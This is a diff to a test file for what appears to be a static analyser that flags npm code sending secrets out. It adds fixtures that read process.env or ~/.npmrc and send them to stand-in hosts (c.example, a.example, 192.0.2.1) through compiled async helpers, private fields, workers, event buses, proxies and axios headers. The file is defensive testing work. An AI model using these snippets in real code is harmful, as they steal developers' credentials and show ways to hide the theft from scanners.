@@ -21,7 +21,8 @@ function flowsIn(code: Row[1], manifest: Record<string, unknown> = {}): string[]
   const { value, gaps } = eachModule(pkg, {
     root: true,
     select: () => true,
-    look: ({ code: linked, flows }) => flows.flatMap((flow) => inWords(flow, isWhole(linked, flow.steps))),
+    look: ({ code: linked, flows }) =>
+      flows.flatMap((flow) => inWords(flow, isWhole(linked, flow.steps, flow.source.under))),
   });
   expect(gaps).toEqual([]);
   return value.flat();
@@ -265,6 +266,132 @@ const SINKS: readonly Row[] = [
   ['Deno', "const k=await Deno.readTextFile(Deno.env.get('HOME')+'/.npmrc');fetch('https://c.example',{body:k})"],
 ];
 
+/** As TypeScript writes it into a file that it compiles to ES2015. */
+const AWAITER =
+  'var __awaiter=(this&&this.__awaiter)||function(t,a,P,g){function ad(v){return v instanceof P?v:new P(function(r){r(v)})}return new (P||(P=Promise))(function(res,rej){function f(v){try{step(g.next(v))}catch(e){rej(e)}}function step(r){r.done?res(r.value):ad(r.value).then(f)}step((g=g.apply(t,a||[])).next())})};';
+const FIELDS =
+  'var __classPrivateFieldGet=(this&&this.__classPrivateFieldGet)||function(o,s,k,f){return k==="m"?f:k==="a"?f.call(o):f?f.value:s.get(o)};var __classPrivateFieldSet=(this&&this.__classPrivateFieldSet)||function(o,s,v,k,f){return k==="a"?f.call(o,v):f?f.value=v:s.set(o,v),v};';
+
+/** Written down, as compilers write newer syntax for older machines. */
+const COMPILED: readonly Row[] = [
+  [
+    'an async function',
+    `${AWAITER}function rd(){return __awaiter(this,void 0,void 0,function*(){return require('fs').readFileSync(process.env.HOME+'/.npmrc')})} function go(){return __awaiter(this,void 0,void 0,function*(){const d=yield rd();SEND«d»})} go()`,
+  ],
+  [
+    'an async function of tslib',
+    "const tslib_1=require('tslib');function rd(){return (0,tslib_1.__awaiter)(this,void 0,void 0,function*(){const k=yield x();return process.env})} rd().then(d=>{SEND«JSON.stringify(d)»})",
+  ],
+  [
+    'an async method, which knows what it is of',
+    `${AWAITER}class C{constructor(){this.d=process.env} go(){return __awaiter(this,void 0,void 0,function*(){SEND«JSON.stringify(this.d)»})}} new C().go()`,
+  ],
+  [
+    'an async function of esbuild',
+    'var __async=(t,a,g)=>new Promise((r,j)=>{var f=v=>{try{step(g.next(v))}catch(e){j(e)}};var step=x=>x.done?r(x.value):Promise.resolve(x.value).then(f);step((g=g.apply(t,a)).next())});const rd=()=>__async(null,null,function*(){return process.env});rd().then(d=>{SEND«JSON.stringify(d)»})',
+  ],
+  [
+    'an async function of Babel',
+    "function _asyncToGenerator(fn){return function(){var self=this,args=arguments;return new Promise(function(r,j){var gen=fn.apply(self,args);function n(v){a(gen,r,j,n,t,'next',v)}function t(e){a(gen,r,j,n,t,'throw',e)}n(void 0)})}}function rd(){return _rd.apply(this,arguments)}function _rd(){_rd=_asyncToGenerator(function*(){return process.env});return _rd.apply(this,arguments)}rd().then(d=>{SEND«JSON.stringify(d)»})",
+  ],
+  [
+    'a private field',
+    `${FIELDS}var _C_l;class C{constructor(){_C_l.set(this,[]);__classPrivateFieldGet(this,_C_l,"f").push(process.env)} go(){SEND«JSON.stringify(__classPrivateFieldGet(this,_C_l,"f"))»}} _C_l=new WeakMap();new C().go()`,
+  ],
+  [
+    'a private field that is written',
+    `${FIELDS}var _C_l;class C{constructor(){_C_l.set(this,void 0);__classPrivateFieldSet(this,_C_l,process.env,"f")} go(){SEND«JSON.stringify(__classPrivateFieldGet(this,_C_l,"f"))»}} _C_l=new WeakMap();new C().go()`,
+  ],
+  [
+    'a private method',
+    `${FIELDS}var _C_i,_C_up;class C{constructor(){_C_i.add(this)} go(){__classPrivateFieldGet(this,_C_i,"m",_C_up).call(this,process.env)}} _C_i=new WeakSet(),_C_up=function _C_up(d){SEND«JSON.stringify(d)»};new C().go()`,
+  ],
+  [
+    'a private field of esbuild',
+    'var __privateGet=(o,m,g)=>g?g.call(o):m.get(o),__privateAdd=(o,m,v)=>m.set(o,v);var _d;class C{constructor(){__privateAdd(this,_d,process.env)} go(){SEND«JSON.stringify(__privateGet(this,_d))»}} _d=new WeakMap();new C().go()',
+  ],
+  [
+    'a private field of Babel',
+    'var _d=new WeakMap();class C{constructor(){_classPrivateFieldInitSpec(this,_d,{writable:true,value:process.env})} go(){SEND«JSON.stringify(_classPrivateFieldGet(this,_d))»}} new C().go()',
+  ],
+  [
+    'a private field of a later Babel',
+    'var _d=new WeakMap();class C{constructor(){_classPrivateFieldInitSpec(this,_d,process.env)} go(){SEND«JSON.stringify(_classPrivateFieldGet2(_d,this))»}} new C().go()',
+  ],
+  [
+    'a spread object',
+    'var __assign=(this&&this.__assign)||function(){__assign=Object.assign||function(t){return t};return __assign.apply(this,arguments)};SEND«JSON.stringify(__assign(__assign({},process.env),{a:1}))»',
+  ],
+  ['a spread list', 'SEND«JSON.stringify(__spreadArray(__spreadArray([],[1],true),Object.entries(process.env),true))»'],
+];
+
+/** Put in one place and taken from another, without either naming the other. */
+const CHANNELS: readonly Row[] = [
+  [
+    'a service that a constructor is given',
+    "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class C{constructor(t){this.t=t} go(){this.t.send(process.env)}} new C(new T()).go()",
+  ],
+  [
+    'a service that is kept in private',
+    "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class C{#t;constructor(t){this.#t=t} go(){this.#t.send(process.env)}} new C(new T()).go()",
+  ],
+  [
+    'the data of a worker',
+    {
+      'index.js':
+        "const {Worker}=require('worker_threads');new Worker(require('path').join(__dirname,'w.js'),{workerData:{e:{...process.env}}})",
+      'w.js':
+        "const {workerData}=require('node:worker_threads');require('net').connect(443,'192.0.2.1').end(JSON.stringify(workerData.e))",
+    },
+  ],
+  [
+    'a message to a worker',
+    {
+      'index.js': "const {Worker}=require('worker_threads');const w=new Worker('./w.js');w.postMessage(process.env)",
+      'w.js': "const {parentPort}=require('worker_threads');parentPort.on('message',m=>{SEND«JSON.stringify(m)»})",
+    },
+  ],
+  [
+    'a message to a child',
+    {
+      'index.js':
+        "const {fork}=require('child_process');const c=fork(require.resolve('./w.js'));c.send({kind:'a',data:Object.assign({},process.env)})",
+      'w.js': "process.on('message',async(m)=>{if(m.kind!=='a')return;SEND«JSON.stringify(m.data)»})",
+    },
+  ],
+  [
+    'an event',
+    {
+      'index.js': "const bus=require('./bus');require('./w');bus.emit('boot',{env:process.env,at:1})",
+      'w.js': "const bus=require('./bus');bus.on('boot',({env})=>{SEND«JSON.stringify(env)»})",
+      'bus.js': "module.exports=new (require('events'))()",
+    },
+  ],
+  [
+    'the global object',
+    {
+      'index.js': "globalThis.__cfg=process.env;require('./w')",
+      'w.js': 'SEND«JSON.stringify(__cfg)»',
+    },
+  ],
+  [
+    'a proxy before the environment',
+    'const s=new Proxy({},{get:(_,k)=>Reflect.get(process.env,k),ownKeys:()=>Reflect.ownKeys(process.env)});const b={};for(const k of Reflect.ownKeys(s))b[k]=s[k];SEND«JSON.stringify(b)»',
+  ],
+  [
+    'what a client sends with every request',
+    "const axios=require('axios').default;axios.defaults.headers.common['x-e']=JSON.stringify(process.env);axios.get('https://a.example')",
+  ],
+  [
+    'what a client is made with',
+    "const c=require('axios').create({baseURL:'https://a.example',headers:{e:JSON.stringify(process.env)}});c.get('/')",
+  ],
+  [
+    'what sees each request of a client',
+    "const c=require('axios').create({});c.interceptors.request.use((cfg)=>{cfg.data=process.env;return cfg});c.post('/')",
+  ],
+];
+
 const WAYS: readonly Row[] = [
   ['alias fn', "READ;const f=fetch;f('https://c.example',{body:k})"],
   ['wrapper', "READ;function up(d){return fetch('https://c.example',{body:d})} up(k)"],
@@ -479,9 +606,12 @@ const WAYS: readonly Row[] = [
 ];
 
 describe('what is collected and sent', () => {
-  test.each([...SOURCES, ...SINKS, ...WAYS].map(([name, ...row]) => ({ name, row })))('$name', ({ row }) => {
-    expect(flowsIn(...row).filter((flow) => LEFT.test(flow))).not.toEqual([]);
-  });
+  test.each([...SOURCES, ...SINKS, ...WAYS, ...COMPILED, ...CHANNELS].map(([name, ...row]) => ({ name, row })))(
+    '$name',
+    ({ row }) => {
+      expect(flowsIn(...row).filter((flow) => LEFT.test(flow))).not.toEqual([]);
+    },
+  );
 });
 
 const OTHER: readonly (readonly [name: string, code: string, flow: string])[] = [
@@ -557,6 +687,41 @@ const STAYS: readonly Row[] = [
   [
     'an event of another name',
     "READ;const e=new (require('events'))();e.on('y',d=>fetch('https://a.example',{body:d}));e.emit('x',k)",
+  ],
+  [
+    'what an async function waited for, and did not give back',
+    `${AWAITER}function rd(){return __awaiter(this,void 0,void 0,function*(){yield check(require('fs').readFileSync(process.env.HOME+'/.npmrc'));return 1})} rd().then(d=>{SEND«d»})`,
+  ],
+  [
+    'another private field',
+    `${FIELDS}var _C_a,_C_b;class C{constructor(){_C_a.set(this,process.env);_C_b.set(this,1)} go(){SEND«JSON.stringify(__classPrivateFieldGet(this,_C_b,"f"))»}} _C_a=new WeakMap(),_C_b=new WeakMap();new C().go()`,
+  ],
+  [
+    'another service of the same class',
+    "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class L{send(p){this.p=p}} class C{constructor(t,l){this.t=t;this.l=l} go(){this.l.send(process.env);this.t.send('x')}} new C(new T(),new L()).go()",
+  ],
+  [
+    'another part of a message',
+    {
+      'index.js': "const bus=require('./bus');require('./w');bus.emit('boot',{env:process.env,at:1})",
+      'w.js': "const bus=require('./bus');bus.on('boot',({at})=>{SEND«JSON.stringify(at)»})",
+      'bus.js': "module.exports=new (require('events'))()",
+    },
+  ],
+  [
+    'one variable of the environment that a worker is given',
+    {
+      'index.js': "const {Worker}=require('worker_threads');new Worker('./w.js',{workerData:{env:process.env}})",
+      'w.js': "const {workerData}=require('worker_threads');SEND«workerData.env.WEATHER_URL»",
+    },
+  ],
+  [
+    'an event of another name in another module',
+    {
+      'index.js': "const bus=require('./bus');require('./w');bus.emit('boot',process.env)",
+      'w.js': "const bus=require('./bus');bus.on('city',(c)=>{SEND«JSON.stringify(c)»})",
+      'bus.js': "module.exports=new (require('events'))()",
+    },
   ],
   [
     'a module that only has the same word',
